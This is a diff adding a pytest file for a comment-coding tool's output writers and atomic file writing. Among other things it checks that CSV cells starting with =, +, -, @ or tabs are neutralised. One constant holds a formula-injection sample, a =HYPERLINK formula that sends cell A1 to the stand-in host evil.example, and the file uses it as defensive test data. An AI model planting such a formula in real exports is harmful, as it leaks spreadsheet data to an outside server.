@@ -1,0 +1,237 @@
+"""Output writers (formula-safe CSV cells, column names) and atomic file writing."""
+
+from __future__ import annotations
+
+import csv
+import json
+import os
+from pathlib import Path
+
+import pytest
+from conftest import TINY_CODEBOOK
+
+from coder.codebook import Codebook
+from coder.codebook_io import parse_codebook
+from coder.errors import OutputError
+from coder.fileio import atomic_open, atomic_path, atomic_write_text
+from coder.results import CommentResult, Evidence, Suggestion
+from coder.writers import JsonlWriter, LongWriter, WideWriter, added_columns, neutralise
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+
+@pytest.fixture(scope="module")
+def tiny() -> Codebook:
+    return parse_codebook(TINY_CODEBOOK, "tiny.yaml")
+
+
+def result_for(text: str) -> CommentResult:
+    return CommentResult(
+        text=text,
+        scores={"time": 0.91234, "cost": 0.1, "box_ticking": 0.0},
+        suggestions=[
+            Suggestion(
+                "time",
+                "Time",
+                0.91234,
+                "rule",
+                (Evidence("=HYPERLINK", 0, 10, "pattern"), Evidence("-no time", 12, 20, "pattern")),
+            ),
+            Suggestion("cost", "Cost", 0.6, "model"),
+        ],
+    )
+
+
+def rows_of(path: Path) -> list[list[str]]:
+    with open(path, encoding="utf-8", newline="") as handle:
+        return list(csv.reader(handle))
+
+
+# ---------------------------------------------------------------- neutralise
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+44 20 7946 0000", "'+44 20 7946 0000"),
+        ("-2", "'-2"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tindented", "'\tindented"),
+        ("\rreturn", "'\rreturn"),
+        (-3, "'-3"),
+        ("plain text", "plain text"),
+        ("a = b", "a = b"),
+        (" =not at start", " =not at start"),
+        ("", ""),
+        (None, ""),
+        (7, "7"),
+        (0.5, "0.5"),
+    ],
+)
+def test_neutralise(value: object, expected: str) -> None:
+    assert neutralise(value) == expected
+
+
+# ---------------------------------------------------------------- writers
+
+
+def test_wide_writer_neutralises_every_cell(tmp_path: Path, tiny: Codebook) -> None:
+    path = tmp_path / "wide.csv"
+    with atomic_open(path, newline="") as handle:
+        writer = WideWriter(handle, ["id", "comment", "@note"], tiny)
+        writer.write("=1", {"id": "=1", "comment": FORMULA, "@note": "+x"}, result_for(FORMULA))
+        writer.write("2", {"id": "2", "comment": "fine"}, CommentResult(text="fine"))
+    assert rows_of(path) == [
+        [
+            "id", "comment", "'@note", "time", "cost", "box_ticking",
+            "time_score", "cost_score", "box_ticking_score", "codes",
+        ],
+        ["'=1", "'" + FORMULA, "'+x", "1", "1", "0", "0.9123", "0.1000", "0.0000", "time;cost"],
+        ["2", "fine", "", "0", "0", "0", "0.0000", "0.0000", "0.0000", ""],
+    ]  # fmt: skip
+
+
+def test_wide_writer_renames_clashing_columns(tmp_path: Path, tiny: Codebook) -> None:
+    path = tmp_path / "wide.csv"
+    with atomic_open(path, newline="") as handle:
+        writer = WideWriter(handle, ["time", "codes", "cost_score"], tiny)
+        writer.write("1", {"time": "9am", "codes": "X1", "cost_score": "5"}, result_for("t"))
+    assert rows_of(path) == [
+        [
+            "time", "codes", "cost_score", "coder_time", "cost", "box_ticking",
+            "time_score", "coder_cost_score", "box_ticking_score", "coder_codes",
+        ],
+        ["9am", "X1", "5", "1", "1", "0", "0.9123", "0.1000", "0.0000", "time;cost"],
+    ]  # fmt: skip
+
+
+def test_long_writer_neutralises_every_cell(tmp_path: Path, tiny: Codebook) -> None:
+    path = tmp_path / "long.csv"
+    with atomic_open(path, newline="") as handle:
+        writer = LongWriter(handle, ["id", "comment"], tiny)
+        writer.write("=1", {"id": "=1", "comment": FORMULA}, result_for(FORMULA))
+        writer.write("2", {"id": "2", "comment": "nothing"}, CommentResult(text="nothing"))
+    assert rows_of(path) == [
+        ["id", "theme", "label", "score", "source", "evidence", "evidence_start", "evidence_end"],
+        ["'=1", "time", "Time", "0.9123", "rule", "'=HYPERLINK | -no time", "0", "10"],
+        ["'=1", "cost", "Cost", "0.6000", "model", "", "", ""],
+    ]
+
+
+def test_jsonl_writer_keeps_the_text_as_it_is(tmp_path: Path, tiny: Codebook) -> None:
+    path = tmp_path / "out.jsonl"
+    with atomic_open(path) as handle:
+        JsonlWriter(handle, ["id", "comment"], tiny).write(
+            "=1", {"id": "=1", "comment": FORMULA}, result_for(FORMULA)
+        )
+    (line,) = path.read_text(encoding="utf-8").splitlines()
+    record = json.loads(line)
+    assert record["id"] == "=1"
+    assert record["row"] == {"id": "=1", "comment": FORMULA}
+    assert record["text"] == FORMULA
+    assert record["codes"] == ["time", "cost"]
+    assert record["scores"] == {"time": 0.9123, "cost": 0.1, "box_ticking": 0.0}
+    assert record["suggestions"][0]["evidence"][0] == {
+        "text": "=HYPERLINK", "start": 0, "end": 10, "kind": "pattern",
+    }  # fmt: skip
+
+
+def test_added_columns() -> None:
+    assert added_columns(["id", "comment"], ["time", "cost"]) == {
+        "time": "time",
+        "cost": "cost",
+        "time_score": "time_score",
+        "cost_score": "cost_score",
+        "codes": "codes",
+    }
+    assert added_columns(["id", "time", "codes", "cost_score"], ["time", "cost"]) == {
+        "time": "coder_time",
+        "cost": "cost",
+        "time_score": "time_score",
+        "cost_score": "coder_cost_score",
+        "codes": "coder_codes",
+    }
+
+
+# ---------------------------------------------------------------- atomic writing
+
+
+def test_atomic_open_writes_and_leaves_no_temp_file(tmp_path: Path) -> None:
+    target = tmp_path / "out.txt"
+    with atomic_open(target) as handle:
+        handle.write("café\n")
+        assert not target.exists()  # nothing at the target until the body succeeds
+    assert target.read_bytes() == "café\n".encode()
+    assert [p.name for p in tmp_path.iterdir()] == ["out.txt"]
+
+
+def test_atomic_open_leaves_the_target_untouched_when_the_body_raises(tmp_path: Path) -> None:
+    target = tmp_path / "out.txt"
+    target.write_text("original\n", encoding="utf-8")
+    with pytest.raises(RuntimeError, match="boom"), atomic_open(target, force=True) as handle:
+        handle.write("half a fi")
+        raise RuntimeError("boom")
+    assert target.read_text(encoding="utf-8") == "original\n"
+    assert [p.name for p in tmp_path.iterdir()] == ["out.txt"]
+
+
+def test_atomic_open_creates_nothing_when_the_body_raises(tmp_path: Path) -> None:
+    with pytest.raises(KeyboardInterrupt), atomic_open(tmp_path / "new.txt") as handle:
+        handle.write("partial")
+        raise KeyboardInterrupt
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_atomic_open_refuses_an_existing_file_without_force(tmp_path: Path) -> None:
+    target = tmp_path / "out.txt"
+    target.write_text("original\n", encoding="utf-8")
+    with pytest.raises(OutputError) as caught, atomic_open(target) as handle:
+        handle.write("never")
+    assert str(caught.value) == f"{target} already exists; use --force to overwrite it"
+    assert target.read_text(encoding="utf-8") == "original\n"
+    assert [p.name for p in tmp_path.iterdir()] == ["out.txt"]
+
+    with atomic_open(target, force=True) as handle:
+        handle.write("replaced\n")
+    assert target.read_text(encoding="utf-8") == "replaced\n"
+
+
+def test_atomic_open_refuses_a_missing_folder_and_a_folder(tmp_path: Path) -> None:
+    missing = tmp_path / "no" / "out.txt"
+    with pytest.raises(OutputError) as caught, atomic_open(missing):
+        pass
+    assert str(caught.value) == f"folder {missing.parent} does not exist; create it first"
+
+    with pytest.raises(OutputError) as caught, atomic_open(tmp_path, force=True):
+        pass
+    assert str(caught.value) == f"{tmp_path} is a folder; give a file name"
+
+
+def test_atomic_open_dash_is_stdout(capsys: pytest.CaptureFixture[str]) -> None:
+    with atomic_open("-") as handle:
+        handle.write("to stdout\n")
+    assert capsys.readouterr().out == "to stdout\n"
+
+
+def test_atomic_path_cleans_up_on_failure(tmp_path: Path) -> None:
+    target = tmp_path / "out.xlsx"
+    with pytest.raises(ValueError), atomic_path(target) as tmp:
+        tmp.write_bytes(b"partial")
+        raise ValueError
+    assert list(tmp_path.iterdir()) == []
+
+    with atomic_path(target) as tmp:
+        tmp.write_bytes(b"whole")
+    assert target.read_bytes() == b"whole"
+    assert [p.name for p in tmp_path.iterdir()] == ["out.xlsx"]
+
+
+@pytest.mark.skipif(os.name != "posix", reason="POSIX file modes")
+def test_atomic_writes_get_the_usual_permissions(tmp_path: Path) -> None:
+    old = os.umask(0o022)
+    try:
+        atomic_write_text(tmp_path / "out.yaml", "x")
+    finally:
+        os.umask(old)
+    assert (tmp_path / "out.yaml").stat().st_mode & 0o777 == 0o644
